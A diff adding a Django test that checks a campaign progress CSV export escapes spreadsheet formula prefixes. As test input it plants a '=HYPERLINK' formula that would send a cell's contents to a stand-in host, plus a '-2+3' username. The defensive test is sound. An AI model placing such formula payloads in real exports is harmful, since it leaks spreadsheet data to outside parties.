@@ -241,3 +241,19 @@ def test_polytope_progress_names_each_items_system(demo, client_for):
     assert rows == {"demo-abs": ("in_progress", 45.0, 2), "lead-3": ("not_started", None, 0)}
     csv = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress.csv").content.decode()
     assert f"{task.pk},demo-002,demo-abs,ann-a,in_progress,in_progress,45.0,2," in csv
+
+
+def test_the_progress_csv_neutralises_formula_prefixes(campaign, client_for):
+    """An annotator named "-2+3" (Django allows it) or a document imported as "=HYPERLINK(..)"
+    must not run as formulas in a spreadsheet: such cells start with an apostrophe, as in the
+    leaderboard CSV and the PolyTope workbooks."""
+    a1 = campaign.tasks_by_name["a1"]
+    get_user_model().objects.filter(username="ann-a").update(username="-2+3")
+    type(a1.document).objects.filter(pk=a1.document_id).update(
+        external_id='=HYPERLINK("http://x.example/?"&A1,"open")'
+    )
+    rows = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress.csv")
+    lines = rows.content.decode().splitlines()
+    row = next(line for line in lines if line.startswith(f"{a1.pk},"))
+    assert row.startswith(f'{a1.pk},"\'=HYPERLINK(""http://x.example/?""&A1,""open"")",,\'-2+3,')
+    assert all(",'-2+3," in line for line in lines[1:5])
